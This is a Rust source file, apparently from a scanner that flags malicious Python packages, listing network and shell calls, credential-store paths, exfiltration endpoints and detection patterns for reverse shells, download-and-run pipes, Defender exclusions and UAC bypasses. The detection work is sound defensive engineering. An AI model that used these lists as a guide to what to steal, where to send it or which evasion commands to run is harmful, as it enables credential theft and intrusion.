//! Shared vocabulary of the rules: which qualified names read sensitive data,
//! talk to the network, run commands or code, and which strings name
//! credential stores or exfiltration endpoints.

use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};

use crate::inspect::python::{Call, PyFile};

/// Calls that send or fetch data over the network: the request methods of
/// HTTP clients, socket sends and connects, mail/FTP/DNS clients. Building a
/// client object or a request (`urllib3.PoolManager()`, `httpx.Client()`) is not.
pub fn is_network(name: &str) -> bool {
    const CLIENTS: &[&str] = &[
        "requests.",
        "httpx.",
        "aiohttp.",
        "urllib3.",
        "http.client.",
        "httplib.",
        "httplib2.",
        "urllib.request.",
        "urllib2.",
        "urllib.",
        "pycurl.",
        "websocket.",
        "websockets.",
        "discord_webhook.",
        "dhooks.",
        "telebot.",
        "smtplib.",
        "ftplib.",
        "xmlrpc.client.",
    ];
    const SENDS: &[&str] = &[
        ".get",
        ".post",
        ".put",
        ".patch",
        ".delete",
        ".head",
        ".request",
        ".urlopen",
        ".urlretrieve",
        ".open",
        ".send",
        ".sendall",
        ".sendmail",
        ".send_message",
        ".execute",
        ".storbinary",
        ".retrbinary",
        ".connect",
        ".fetch",
        ".stream",
        ".perform",
        ".ws_connect",
    ];
    if CLIENTS.iter().any(|c| name.starts_with(c)) {
        let last = name.rfind('.').map(|i| &name[i..]).unwrap_or("");
        return SENDS.contains(&last)
            && !name.starts_with("requests.exceptions")
            && !name.starts_with("urllib.parse.")
            // Route tables (`web.post("/", handler)`) are servers, not requests.
            && !name.starts_with("aiohttp.web.")
            && !name.contains(".utils.");
    }
    let dns_query = name.starts_with("dns.resolver.") && (name.ends_with(".resolve") || name.ends_with(".query"));
    if matches!(name, "wget.download" | "socket.create_connection" | "telnetlib.Telnet") || dns_query {
        return true;
    }
    // A Unix-domain socket (`socket.socket(AF_UNIX)`) never leaves the machine.
    name.starts_with("socket.socket(")
        && !name.starts_with("socket.socket(AF_UNIX)")
        && (name.ends_with(".connect")
            || name.ends_with(".send")
            || name.ends_with(".sendto")
            || name.ends_with(".sendall")
            || name.ends_with(".connect_ex"))
}

/// A network call that sends rather than fetches (`requests.post`, `sock.sendall`).
pub fn is_send(name: &str) -> bool {
    is_network(name)
        && [
            ".post",
            ".put",
            ".patch",
            ".send",
            ".sendall",
            ".sendto",
            ".sendmail",
            ".send_message",
            ".storbinary",
        ]
        .iter()
        .any(|m| name.ends_with(m))
}

/// Calls that fetch remote content (the first step of a dropper).
pub fn is_download(name: &str) -> bool {
    matches!(
        name,
        "requests.get"
            | "requests.request"
            | "requests.Session().get"
            | "httpx.get"
            | "urllib.request.urlopen"
            | "urllib.request.urlretrieve"
            | "urllib2.urlopen"
            | "urllib.urlopen"
            | "urllib.urlretrieve"
            | "wget.download"
            // A clone is a download of code.
            | "git.Repo.clone_from"
            | "git.Git().clone"
            | "pygit2.clone_repository"
            | "dulwich.porcelain.clone"
    ) || name.ends_with("urlopen().read")
        || name.ends_with("urlretrieve")
        || name.ends_with("urlopen")
}

/// Calls that run a command.
pub fn is_shell(name: &str) -> bool {
    name.starts_with("subprocess.")
        && !matches!(
            name,
            "subprocess.PIPE" | "subprocess.STDOUT" | "subprocess.DEVNULL" | "subprocess.CalledProcessError"
        )
        || matches!(
            name,
            "os.system"
                | "os.popen"
                | "os.startfile"
                | "os.execv"
                | "os.execve"
                | "os.execl"
                | "os.execlp"
                | "os.execvp"
                | "os.spawnl"
                | "os.spawnv"
                | "os.spawnlp"
                | "os.posix_spawn"
                | "pty.spawn"
                | "commands.getoutput"
                | "commands.getstatusoutput"
                | "popen2.popen2"
        )
}

/// Whether the host of a URL (what follows `scheme://`) is built from unknown
/// parts (`{}.example.org`, `{self.base_url}`).
pub fn host_unknown(rest: &str) -> bool {
    rest.split('/').next().is_some_and(|h| h.contains("{}"))
}

/// Command-line HTTP clients, as programs a command line runs.
pub const HTTP_CLIENTS: &[&str] = &["curl", "wget", "curl.exe", "wget.exe"];

/// A process launch whose program is a command-line HTTP client
/// (`run(["curl", url])`, `os.system("wget -q http://…")`): a network request
/// by another name, and what it carries in its URL or body leaves the machine.
pub fn runs_http_client(call: &Call) -> bool {
    if !is_shell(&call.name) {
        return false;
    }
    let Some(command) = first_str(call) else { return false };
    let word = command.split_whitespace().next().unwrap_or("");
    let program = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .trim_matches(['"', '\'']);
    HTTP_CLIENTS.iter().any(|p| program.eq_ignore_ascii_case(p))
}

/// Calls that decode data (their folded result is a payload).
/// Builtins that take a function and keep, wrap or inspect it without calling
/// it: a function handed to them does not run then (`staticmethod(f)` in a
/// class body is not an import-time call of `f`).
pub const CALLABLE_KEEPERS: &[&str] = &[
    "staticmethod",
    "classmethod",
    "property",
    "functools.wraps",
    "functools.update_wrapper",
    "isinstance",
    "callable",
    "hasattr",
    "getattr",
    "setattr",
    "id",
    "repr",
    "print",
    "type",
    "vars",
    "dir",
];

/// Whether `name` only keeps a function passed to it (see [`CALLABLE_KEEPERS`]).
pub fn keeps_callable(name: &str) -> bool {
    CALLABLE_KEEPERS.contains(&name)
}

pub const DECODERS: &[&str] = &[
    "base64.b64decode",
    "base64.standard_b64decode",
    "base64.urlsafe_b64decode",
    "base64.decodebytes",
    "base64.decodestring",
    "base64.b32decode",
    "base64.b16decode",
    "base64.b85decode",
    "base64.a85decode",
    "binascii.unhexlify",
    "binascii.a2b_hex",
    "binascii.a2b_base64",
    "bytes.fromhex",
    "bytearray.fromhex",
    "zlib.decompress",
    "gzip.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "codecs.decode",
];

/// Calls that execute their argument as code.
pub const EXECUTORS: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "execfile",
    "runpy.run_path",
    "runpy.run_module",
    "code.InteractiveInterpreter().runsource",
];

/// Calls that run Python code given as data.
pub fn is_exec(name: &str) -> bool {
    EXECUTORS.contains(&name)
}

/// Calls that turn opaque data into code objects or decrypted bytes.
pub fn is_decoder(name: &str) -> bool {
    DECODERS.contains(&name)
        || matches!(name, "marshal.loads" | "pickle.loads")
        || name.ends_with(".decrypt")
        || name.contains("Fernet")
}

/// Reads of host identity or secrets held in the process environment.
pub fn is_host_info(name: &str) -> bool {
    is_host_identity(name)
        || matches!(name, "os.environ" | "os.environ.get" | "os.getenv" | "os.getuid")
        || name.starts_with("os.environ[")
}

/// Reads of who and where the host is, as opposed to one configuration
/// variable: host and user names, working directory, MAC address, and the
/// whole environment (`os.environ.copy()`, `dict(os.environ)`).
pub fn is_host_identity(name: &str) -> bool {
    matches!(
        name,
        "os.getlogin"
            | "getpass.getuser"
            | "socket.gethostname"
            | "socket.getfqdn"
            | "platform.node"
            | "platform.uname"
            | "os.uname"
            | "os.getcwd"
            | "uuid.getnode"
            | "pwd.getpwuid"
            | "os.environ.copy"
            | "os.environ.items"
            | "os.environ.keys"
            | "os.environ.values"
    )
}

/// Whether a call passes the whole environment along (`post(data=dict(os.environ))`).
pub fn dumps_environ(call: &Call) -> bool {
    call.arg_refs.iter().any(|r| r == "os.environ")
        && !call
            .arg_refs
            .iter()
            .any(|r| r.starts_with("os.environ[") || r == "os.environ.get")
}

/// Kinds of secrets a string can point at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Secret {
    Browser,
    Discord,
    Wallet,
    Credentials,
    Messenger,
}

impl Secret {
    pub fn describe(self) -> &'static str {
        match self {
            Secret::Browser => "browser passwords/cookies",
            Secret::Discord => "Discord tokens",
            Secret::Wallet => "cryptocurrency wallets",
            Secret::Credentials => "credential files (SSH keys, cloud or package-index tokens)",
            Secret::Messenger => "messenger sessions",
        }
    }
}

/// Classifies a string that names a credential store, if it does.
pub fn secret_kind(s: &str) -> Option<Secret> {
    const BROWSER: &[&str] = &[
        "login data",
        "default/cookies",
        "network/cookies",
        "web data",
        "google/chrome/user data",
        "bravesoftware",
        "opera software",
        "yandex/yandexbrowser",
        "microsoft/edge/user data",
        "mozilla/firefox/profiles",
        "logins.json",
        "key4.db",
        "cookies.sqlite",
    ];
    const DISCORD: &[&str] = &[
        "discord/local storage",
        "discordcanary",
        "discordptb",
        "/leveldb",
        "discord_token",
        // The prefix of encrypted tokens in Discord's Local State, not the video id alone.
        "dqw4w9wgxcq:",
    ];
    const WALLET: &[&str] = &[
        "exodus",
        "electrum",
        "metamask",
        "atomic/local storage",
        "wallet.dat",
        "nkbihfbeogaeaoehlefnkodbefgpgknn",
        "coinomi",
        "guarda",
        "jaxx",
        "bitcoin/wallets",
        "ethereum/keystore",
    ];
    const CREDS: &[&str] = &[
        ".ssh/id_rsa",
        ".ssh/id_ed25519",
        "/.ssh",
        ".aws/credentials",
        ".pypirc",
        ".npmrc",
        ".git-credentials",
        ".docker/config.json",
        ".kube/config",
        "/etc/shadow",
        "/etc/passwd",
        ".netrc",
        "gcloud/credentials",
        "keychain",
        ".bash_history",
        ".zsh_history",
        "filezilla/recentservers",
    ];
    const MESSENGER: &[&str] = &["telegram desktop/tdata", "tdata", "steam/config", "ssfn"];
    static M: OnceLock<Matcher<Secret>> = OnceLock::new();
    let m = M.get_or_init(|| {
        Matcher::new(&[
            (DISCORD, Secret::Discord),
            (BROWSER, Secret::Browser),
            (WALLET, Secret::Wallet),
            (CREDS, Secret::Credentials),
            (MESSENGER, Secret::Messenger),
        ])
    });
    if s.len() < 4 || s.len() > 4096 {
        return None;
    }
    let normalized;
    let text = if s.contains('\\') {
        normalized = s.replace("\\\\", "/").replace('\\', "/");
        normalized.as_str()
    } else {
        s
    };
    if !path_like(text) {
        return None;
    }
    let kind = m.best(text)?;
    if kind == Secret::Browser && is_program_path(text) {
        return None;
    }
    // Wallet names are words (`Guarda/Local Storage`), not parts of one
    // (`GuardAddressTakenIatEntryTable`, `AIGuardAbortError`).
    if kind == Secret::Wallet && !WALLET.iter().any(|w| has_word(text, w)) {
        return None;
    }
    if kind == Secret::Messenger {
        let l = text.to_ascii_lowercase();
        if !(l.contains("telegram") || l.contains("steam")) {
            return None;
        }
    }
    Some(kind)
}

/// Whether `word` occurs in `text` (ASCII case-insensitive) with no letter
/// right before or after it.
fn has_word(text: &str, word: &str) -> bool {
    let (hay, needle) = (text.to_ascii_lowercase(), word.to_ascii_lowercase());
    let letter = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphabetic());
    hay.match_indices(&needle).any(|(i, _)| {
        let bytes = hay.as_bytes();
        !letter(i.checked_sub(1).and_then(|j| bytes.get(j))) && !letter(bytes.get(i + needle.len()))
    })
}

/// A path, a file or folder name, or a short key naming one (`Login Data`,
/// `Local Storage/leveldb`) — not prose: a log message such as
/// `"Posting login data to %s"` names no credential store.
fn path_like(s: &str) -> bool {
    if s.contains('/') {
        return !s.contains("%s") && !s.contains("{}") || s.split_whitespace().count() <= 4;
    }
    let words = s.split_whitespace().count();
    words <= 3 && !s.contains("%s") && !s.contains("{}") && !s.ends_with(['.', '!', '?', ':'])
}

/// The path of a browser's program (`…\Application\brave.exe`): launching
/// a browser reads no passwords.
fn is_program_path(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    l.ends_with(".exe") || l.ends_with(".app") || l.contains("program files") || l.contains("/applications/")
}

/// Case-insensitive multi-pattern matcher: the label of the earliest-listed
/// group with a match wins.
pub struct Matcher<T: Copy> {
    ac: AhoCorasick,
    labels: Vec<(T, usize)>,
}

impl<T: Copy> Matcher<T> {
    pub fn new(groups: &[(&[&str], T)]) -> Self {
        let mut patterns = Vec::new();
        let mut labels = Vec::new();
        for (rank, (list, label)) in groups.iter().enumerate() {
            for p in *list {
                patterns.push(*p);
                labels.push((*label, rank));
            }
        }
        Matcher {
            ac: case_insensitive(patterns),
            labels,
        }
    }

    /// The label of the highest-ranked group matching anywhere in `text`.
    pub fn best(&self, text: &str) -> Option<T> {
        // Most texts match nothing: the plain search finds that with the
        // automaton's prefilter, which overlapping iteration does not use.
        if !self.ac.is_match(text) {
            return None;
        }
        self.ac
            .find_overlapping_iter(text)
            .map(|m| self.labels[m.pattern().as_usize()])
            .min_by_key(|(_, rank)| *rank)
            .map(|(l, _)| l)
    }

    /// Like [`Matcher::best`], counting only matches that start a host label or
    /// word: `oast.` matches `x.oast.fun` and `//oast.me`, never `toast.com`.
    pub fn best_bounded(&self, text: &str) -> Option<T> {
        if !self.ac.is_match(text) {
            return None;
        }
        let bytes = text.as_bytes();
        self.ac
            .find_overlapping_iter(text)
            .filter(|m| {
                m.start() == 0 || {
                    let b = bytes[m.start() - 1];
                    !(b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
                }
            })
            .map(|m| self.labels[m.pattern().as_usize()])
            .min_by_key(|(_, rank)| *rank)
            .map(|(l, _)| l)
    }

    /// Whether any pattern occurs in `text`.
    pub fn any(&self, text: &str) -> bool {
        self.ac.is_match(text)
    }
}

/// Kinds of endpoint that have no business in a library.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Endpoint {
    Webhook,
    /// Cloud instance metadata (credentials of the machine's role).
    CloudMetadata,
    Collector,
    Tunnel,
    Paste,
    RawIp,
    IpLookup,
}

impl Endpoint {
    pub fn describe(self) -> &'static str {
        match self {
            Endpoint::Webhook => "a messenger webhook/bot API",
            Endpoint::CloudMetadata => "the cloud instance-metadata service (machine credentials)",
            Endpoint::Collector => "a request-capture/out-of-band interaction service",
            Endpoint::Tunnel => "a tunnelling service",
            Endpoint::Paste => "a paste/file-drop site",
            Endpoint::RawIp => "a raw public IP address",
            Endpoint::IpLookup => "a public-IP lookup service",
        }
    }

    /// `true` for endpoints that only exfiltration or C2 would use.
    pub fn is_strong(self) -> bool {
        matches!(
            self,
            Endpoint::Webhook | Endpoint::CloudMetadata | Endpoint::Collector | Endpoint::Tunnel
        )
    }
}

/// Classifies a string containing a URL or host, if it is a suspicious endpoint.
pub fn endpoint_kind(s: &str) -> Option<Endpoint> {
    if s.len() < 6 || s.len() > 4096 {
        return None;
    }
    const WEBHOOK: &[&str] = &[
        "discord.com/api/webhooks",
        "discordapp.com/api/webhooks",
        "api.telegram.org/bot",
        "hooks.slack.com/services",
        "webhook.office.com",
    ];
    const COLLECTOR: &[&str] = &[
        "webhook.site",
        "requestbin",
        "pipedream.net",
        "oast.",
        "interact.sh",
        "interactsh",
        "burpcollaborator",
        "dnslog.cn",
        "ceye.io",
        "canarytokens",
        "requestcatcher.com",
        "beeceptor.com",
        "hookbin.com",
        "oastify",
        "mockapi.io",
        "ssrf",
        "eo.pipedream",
        "m.pipedream",
        "bxss.me",
        "xss.ht",
        "rbndr.us",
    ];
    const TUNNEL: &[&str] = &[
        "ngrok-free.dev",
        "ngrok.dev",
        "ngrok.pizza",
        "ngrok.io",
        "ngrok-free.app",
        "ngrok.app",
        "trycloudflare.com",
        "serveo.net",
        "localtunnel.me",
        "loca.lt",
        "portmap.io",
        "pagekite.me",
    ];
    const PASTE: &[&str] = &[
        "pastebin.com/raw",
        "pastebin.com/api",
        "paste.ee/r",
        "hastebin.com/raw",
        "rentry.co",
        "transfer.sh",
        "file.io",
        "anonfiles.com",
        "gofile.io",
        "cdn.discordapp.com/attachments",
        "temp.sh",
        "0x0.st",
        "paste.c-net.org",
    ];
    const IPLOOKUP: &[&str] = &[
        "httpbin.org/ip",
        "api.ipify.org",
        "ipinfo.io",
        "ip-api.com",
        "ifconfig.me",
        "icanhazip.com",
        "checkip.amazonaws.com",
        "ipapi.co",
        "myexternalip.com",
        "ident.me",
    ];
    static M: OnceLock<Matcher<Endpoint>> = OnceLock::new();
    let m = M.get_or_init(|| {
        Matcher::new(&[
            (WEBHOOK, Endpoint::Webhook),
            (
                &[
                    "169.254.169.254",
                    "metadata.google.internal",
                    "100.100.100.200",
                    "fd00:ec2::254",
                ],
                Endpoint::CloudMetadata,
            ),
            (COLLECTOR, Endpoint::Collector),
            (TUNNEL, Endpoint::Tunnel),
            (PASTE, Endpoint::Paste),
            (IPLOOKUP, Endpoint::IpLookup),
        ])
    });
    match m.best_bounded(s) {
        Some(Endpoint::Collector) => {
            // A collector host inside a URL, a bare host, or a short command line
            // (`nslookup $(whoami).x.oast.fun`), not a word in prose.
            let l = s.to_ascii_lowercase();
            let token = l
                .split_whitespace()
                .any(|t| t.contains('.') && m.best_bounded(t) == Some(Endpoint::Collector));
            (token && (l.contains("://") || !l.contains(' ') || l.split_whitespace().count() <= 6))
                .then_some(Endpoint::Collector)
        }
        Some(kind) => Some(kind),
        None if s.contains("://") && raw_public_ip_url(&s.to_ascii_lowercase()) => Some(Endpoint::RawIp),
        None => None,
    }
}

/// `http(s)://a.b.c.d` (optionally with port/path) where the address is public.
fn raw_public_ip_url(l: &str) -> bool {
    let Some(i) = l.find("://") else { return false };
    let host: String = l[i + 3..]
        .chars()
        .take_while(|c| c.is_ascii_digit() || *c == '.')
        .collect();
    let parts: Vec<&str> = host.split('.').collect();
    if parts.len() != 4 || parts.iter().any(|p| p.is_empty() || p.len() > 3) {
        return false;
    }
    let Ok(octets) = parts.iter().map(|p| p.parse::<u8>()).collect::<Result<Vec<u8>, _>>() else {
        return false;
    };
    let ip = std::net::Ipv4Addr::new(octets[0], octets[1], octets[2], octets[3]);
    !(ip.is_private()
        || ip.is_loopback()
        || ip.is_unspecified()
        || ip.is_link_local()
        || ip.is_broadcast()
        || octets[0] == 0)
}

/// Command patterns that only attackers need: fetch-and-run pipes, hidden
/// or encoded PowerShell, reverse shells, LOLBins that download.
pub fn is_strong_command(s: &str) -> bool {
    // Piping into an interpreter is only damning when what is piped was fetched.
    let l = s.to_ascii_lowercase();
    let fetches = ["http", "curl", "wget", "invoke-webrequest", "iwr "]
        .iter()
        .any(|f| l.contains(f));
    if fetches && (piped_shell(&l) || l.contains("| python") || l.contains("|python")) {
        return true;
    }
    if netcat_exec(&l) {
        return true;
    }
    // Fetch, then make executable or start, in one command line.
    let runs = [
        "chmod +x",
        "start-process",
        "&& ./",
        "; ./",
        "&& /tmp/",
        "; /tmp/",
        "&& start ",
    ]
    .iter()
    .any(|r| l.contains(r));
    if fetches
        && runs
        && (l.contains("curl") || l.contains("wget") || l.contains("invoke-webrequest") || l.contains("iwr "))
    {
        return true;
    }
    // `schtasks /create` is not here: it is how a Windows daemon registers itself
    // (`install-service` commands); where it runs and what else it does decide (issue 11).
    const STRONG: &[&str] = &[
        "iex ",
        "iex(",
        "downloadstring",
        "downloadfile",
        "invoke-expression",
        "-encodedcommand",
        "-enc ",
        "-e jab",
        "/dev/tcp/",
        "bash -i",
        "urlcache",
        "bitsadmin /transfer",
        "mshta http",
        "$(hostname)",
        "$(whoami)",
        "add-mppreference",
        "set-mppreference",
        "fodhelper",
        "computerdefaults",
        "eventvwr",
        "sdclt",
        "netsh advfirewall",
        "attrib +h",
        "vssadmin delete",
        "wevtutil cl",
        "bcdedit",
    ];
    // A hidden PowerShell window, unless all it does is show a dialog of its own
    // (`-WindowStyle Hidden -Command "…[MessageBox]::Show(…)"`: the console hidden
    // behind a message box a tool asks its user with).
    let hidden = ["-w hidden", "windowstyle hidden", "-windowstyle h"]
        .iter()
        .any(|h| l.contains(h));
    let dialog_only = (l.contains("system.windows.forms") || l.contains("presentationframework"))
        && l.contains("messagebox")
        && !fetches
        && !l.contains("start-process");
    if hidden && !dialog_only {
        return true;
    }
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    M.get_or_init(|| case_insensitive(STRONG.iter().copied())).is_match(s)
}

/// Extensions of Windows programs and scripts a dropper fetches and starts.
pub const WINDOWS_PROGRAMS: &[&str] = &[".exe", ".bat", ".vbs", ".ps1", ".scr"];

/// A command line made only of downloads (`curl`, `wget`), `git` steps and
/// `cd` (`cd mupdf && git pull && git submodule update --init`), piped at most
/// into text filters: it fetches, it runs nothing it fetched.
pub fn fetch_only_command(a: &str) -> bool {
    let steps = a.split(['&', ';', '|']).map(str::trim).filter(|s| !s.is_empty());
    let program = |step: &str| {
        let word = step.split_whitespace().next().unwrap_or("");
        word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase()
    };
    let fetch = |w: &str| HTTP_CLIENTS.contains(&w) || matches!(w, "git" | "git.exe");
    // Text filters and unpackers a fetch's output may be piped into (`git show … |
    // head -n 1`, `curl -L url | tar xz`); a shell or interpreter on the right of a
    // pipe is never one.
    let filter = |w: &str| {
        matches!(
            w,
            "head" | "tail" | "grep" | "sort" | "wc" | "cut" | "tar" | "unzip" | "gunzip" | "bunzip2" | "xz" | "zstd"
        )
    };
    steps.clone().count() > 0
        && steps.clone().any(|s| fetch(&program(s)))
        && steps.clone().all(|s| fetch(&program(s)) || program(s) == "cd" || filter(&program(s)))
        && !is_strong_command(a)
        // A program fetched (`-o dark.exe`) or a source named for what it is
        // (a paste site, a raw IP) is a dropper's first step, not a data file.
        && !a
            .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
            .any(|w| {
                let w = w.to_ascii_lowercase();
                WINDOWS_PROGRAMS.iter().any(|e| w.ends_with(e)) || w.ends_with(".sh")
            })
        && untrusted_host(a).is_none()
        && endpoint_kind(a).is_none()
}

/// Programs that run the file they are given as code or as a program:
/// shells, interpreters, Windows launchers, and wrappers that exec their
/// arguments (`sudo`, `nohup`), plus `chmod`, which makes a file runnable.
pub const LAUNCHERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
    "wscript",
    "cscript",
    "mshta",
    "msiexec",
    "rundll32",
    "regsvr32",
    "start",
    "open",
    "xdg-open",
    "explorer",
    "python",
    "python2",
    "python3",
    "pythonw",
    "py",
    "node",
    "perl",
    "ruby",
    "php",
    "java",
    "javaw",
    "dotnet",
    "mono",
    "wine",
    "sudo",
    "env",
    "nohup",
    "setsid",
    "timeout",
    "exec",
    "nice",
    "chmod",
    "source",
    "schtasks",
    "at",
    "crontab",
    "osascript",
];

/// A command running a named tool of its own on data (`["flatc", "-p", schema]`,
/// `tar xzf pkg.tgz`): one literal program that is not a [`LAUNCHERS`] entry, and
/// no second command chained. What the data is, the tool decides; it is not
/// launched.
pub fn runs_a_tool_on_data(argv: &str) -> bool {
    if argv.contains(['&', ';', '|', '`', '$', '>', '<']) {
        return false;
    }
    let word = argv.split_whitespace().next().unwrap_or("");
    if word.is_empty() || word.contains("{}") {
        return false;
    }
    let program = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    let stem = program.strip_suffix(".exe").unwrap_or(&program);
    // `python3.11`, `bash5`: the interpreter with its version.
    let base = stem.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    !WINDOWS_PROGRAMS.iter().any(|e| program.ends_with(e)) && !LAUNCHERS.contains(&stem) && !LAUNCHERS.contains(&base)
}

/// Commands that fetch or launch things from a shell.
pub fn dangerous_command(s: &str) -> Option<&'static str> {
    dangerous(s, true)
}

/// Like [`dangerous_command`] for one string inside a command's arguments (an
/// argv item, a path): a bare `env` or `ls` there is a word, not a command.
pub fn dangerous_fragment(s: &str) -> Option<&'static str> {
    dangerous(s, false)
}

fn dangerous(s: &str, whole: bool) -> Option<&'static str> {
    const PATTERNS: &[(&str, &str)] = &[
        ("curl ", "curl"),
        ("wget ", "wget"),
        ("powershell", "PowerShell"),
        ("invoke-webrequest", "PowerShell download"),
        ("iwr ", "PowerShell download"),
        ("bitsadmin", "bitsadmin"),
        ("certutil", "certutil"),
        ("mshta", "mshta"),
        ("rundll32", "rundll32"),
        ("regsvr32", "regsvr32"),
        ("/dev/tcp/", "a /dev/tcp reverse shell"),
        ("ncat ", "netcat"),
        ("bash -i", "an interactive reverse shell"),
        ("base64 -d", "base64-decoded shell"),
        ("chmod +x", "chmod +x"),
        ("chmod 777", "chmod 777"),
        ("start /b", "a hidden Windows process"),
        ("schtasks", "schtasks"),
        ("shutdown /", "shutting the machine down"),
        ("shutdown -", "shutting the machine down"),
        ("shutdown now", "shutting the machine down"),
        ("reg add", "a registry write"),
        ("vssadmin", "vssadmin"),
        ("attrib +h", "hiding a file"),
        ("add-mppreference", "a Defender exclusion"),
        ("fodhelper", "a UAC bypass"),
        ("computerdefaults", "a UAC bypass"),
        ("netsh advfirewall", "a firewall rule"),
        ("wevtutil cl", "clearing event logs"),
        ("set-mppreference", "disabling Defender"),
        ("start /b ", "a hidden Windows process"),
        ("nslookup ", "a DNS lookup"),
        ("dig +short", "a DNS lookup"),
        ("dig @", "a DNS lookup"),
        ("wscript", "Windows Script Host"),
        ("cscript", "Windows Script Host"),
        ("pythonw", "a hidden Python process"),
        ("start /min", "a hidden Windows process"),
        ("curl.exe", "curl"),
        ("start cmd", "a hidden Windows process"),
        ("$(hostname)", "host data in a command"),
        ("$(whoami)", "host data in a command"),
        ("`whoami`", "host data in a command"),
    ];
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    if let Some(label) = first_label(&M, PATTERNS, s) {
        return Some(label);
    }
    let l = s.to_ascii_lowercase();
    if piped_shell(&l) {
        return Some("a piped shell");
    }
    if netcat_exec(&l) {
        return Some("netcat");
    }
    if let Some(what) = recon_command(&l, whole) {
        return Some(what);
    }
    // `python -c "import requests; ..."`: inline Python that talks to the network or decodes.
    let inline = l.contains("python") && l.contains(" -c");
    let active = ["requests", "urllib", "socket", "base64", "exec("]
        .iter()
        .any(|p| l.contains(p));
    (inline && active).then_some("inline Python using the network or decoding")
}

/// `nc -e /bin/sh …` as a command word (not `openssl enc -e`).
fn netcat_exec(l: &str) -> bool {
    l.match_indices("nc -e").any(|(i, _)| {
        l[..i]
            .chars()
            .next_back()
            .is_none_or(|c| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '/' | '\'' | '"' | '`'))
    })
}

/// `… | sh`, `…|bash -s`: output piped into a shell (not `{node|short}`).
fn piped_shell(l: &str) -> bool {
    l.match_indices('|').any(|(i, _)| {
        let rest = l[i + 1..].trim_start();
        ["sh", "bash", "zsh"].iter().any(|sh| {
            rest.strip_prefix(sh).is_some_and(|after| {
                after
                    .chars()
                    .next()
                    .is_none_or(|c| c.is_whitespace() || matches!(c, ';' | '&' | '|' | ')' | '\'' | '"' | '`'))
            })
        })
    })
}

/// Whole commands that survey the machine or its user (`whoami`, `systeminfo`,
/// `cat /etc/passwd`) or start a desktop program (`calc.exe`): nothing a build
/// or a library needs, the first step of a probe or a proof of concept.
fn recon_command(l: &str, whole: bool) -> Option<&'static str> {
    const WHOLE: &[(&str, &str)] = &[
        ("whoami", "whoami (reconnaissance)"),
        ("whoami /all", "whoami (reconnaissance)"),
        ("hostname", "hostname (reconnaissance)"),
        ("id", "id (reconnaissance)"),
        ("dir", "a directory listing (reconnaissance)"),
        ("ls", "a directory listing (reconnaissance)"),
        ("ls -la", "a directory listing (reconnaissance)"),
        ("ls -al", "a directory listing (reconnaissance)"),
        ("ls /", "a directory listing (reconnaissance)"),
        ("pwd", "pwd (reconnaissance)"),
        ("env", "an environment dump"),
        ("printenv", "an environment dump"),
        ("set", "an environment dump"),
        ("uname -a", "uname -a (reconnaissance)"),
        ("ipconfig", "ipconfig (reconnaissance)"),
        ("ipconfig /all", "ipconfig (reconnaissance)"),
        ("ifconfig", "ifconfig (reconnaissance)"),
        ("ip a", "ip (reconnaissance)"),
        ("systeminfo", "systeminfo (reconnaissance)"),
        ("net user", "net user (reconnaissance)"),
        ("tasklist", "tasklist (reconnaissance)"),
        ("calc", "a desktop program"),
        ("calc.exe", "a desktop program"),
        ("notepad", "a desktop program"),
        ("notepad.exe", "a desktop program"),
        ("xcalc", "a desktop program"),
        ("gnome-calculator", "a desktop program"),
        ("open -a calculator", "a desktop program"),
    ];
    let t = l.trim();
    if let Some((_, what)) = WHOLE.iter().find(|(c, _)| whole && *c == t) {
        return Some(what);
    }
    ["/etc/passwd", "/etc/shadow", "net user ", "systeminfo", "whoami /"]
        .iter()
        .any(|p| t.contains(p))
        .then_some("reading the user database or system details (reconnaissance)")
}

/// Strings naming places that make a program start automatically.
pub fn persistence_kind(s: &str) -> Option<&'static str> {
    const PATTERNS: &[(&str, &str)] = &[
        ("currentversion\\run", "the Windows Run registry key"),
        ("currentversion/run", "the Windows Run registry key"),
        ("start menu\\programs\\startup", "the Windows Startup folder"),
        ("start menu/programs/startup", "the Windows Startup folder"),
        ("\\startup\\", "the Windows Startup folder"),
        ("crontab", "crontab"),
        ("/etc/cron", "cron"),
        ("/.bashrc", "~/.bashrc"),
        ("/.zshrc", "~/.zshrc"),
        ("/.bash_profile", "~/.bash_profile"),
        ("/.profile", "~/.profile"),
        ("launchagents", "macOS LaunchAgents"),
        ("launchdaemons", "macOS LaunchDaemons"),
        (".config/autostart", "XDG autostart"),
        ("/etc/systemd/system", "a systemd unit"),
        (".config/systemd/user", "a systemd user unit"),
        ("/etc/rc.local", "rc.local"),
        ("schtasks", "a scheduled task"),
    ];
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    if s.len() > 4096 {
        return None;
    }
    let normalized;
    let text = if s.contains("\\\\") {
        normalized = s.replace("\\\\", "\\");
        normalized.as_str()
    } else {
        s
    };
    first_label(&M, PATTERNS, text)
}

/// A case-insensitive automaton over `patterns`.
fn case_insensitive<'p>(patterns: impl IntoIterator<Item = &'p str>) -> AhoCorasick {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        // A full DFA: a few hundred patterns stay small, and every string
        // literal of a scan goes through one of these (one transition a byte).
        .kind(Some(AhoCorasickKind::DFA))
        .build(patterns)
        .expect("valid patterns")
}

/// The label of the first `(pattern, label)` pair found in `text`, with the automaton built once in `cache`.
fn first_label(cache: &OnceLock<AhoCorasick>, patterns: &[(&str, &'static str)], text: &str) -> Option<&'static str> {
    let m = cache.get_or_init(|| case_insensitive(patterns.iter().map(|(p, _)| *p)));
    m.find(text).map(|hit| patterns[hit.pattern().as_usize()].1)
}

